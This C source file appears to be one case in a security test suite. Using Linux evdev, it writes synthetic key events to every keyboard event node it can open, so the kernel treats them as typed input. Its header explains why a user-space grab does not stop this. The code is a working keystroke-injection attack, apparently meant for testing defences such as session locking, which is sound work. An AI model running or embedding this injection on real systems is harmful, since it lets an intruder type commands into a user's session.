// SPDX-License-Identifier: Apache-2.0
/*
 * Types with the real keyboards: what is written to an event node comes out of the
 * device as if it had been typed.
 *
 * attack: evdev_inject
 * class: input
 * when: session
 * judge: decided
 * quick: yes
 * defence: module
 * why: another program's grab does not keep written events out, since both have the
 *	event node's handle; the kernel's grab has its own
 */
#include <linux/input.h>
#include <unistd.h>

#include "evdev.h"
#include "intruder.h"
#include "report.h"

struct keyboards {
	int fds[EVDEV_MAX];
	size_t count;
};

static void emit(const struct keyboards *k, unsigned int code, int value)
{
	const struct input_event events[] = {
		{ .type = EV_KEY, .code = (unsigned short)code, .value = value },
		{ .type = EV_SYN, .code = SYN_REPORT },
	};
	size_t i;

	for (i = 0; i < k->count; i++)
		(void)!write(k->fds[i], events, sizeof(events));
	attack_wait(30);
}

static void press(void *device, char key)
{
	unsigned int code = key == '\n' ? KEY_ENTER : evdev_key(key);

	emit(device, code, 1);
	emit(device, code, 0);
}

int main(void)
{
	struct keyboards k;

	attack_init();
	k.count = evdev_open_keyboards(k.fds);
	if (!k.count)
		attack_failed("no keyboard can be opened");
	attack_ready();
	intruder_type(press, &k);
}
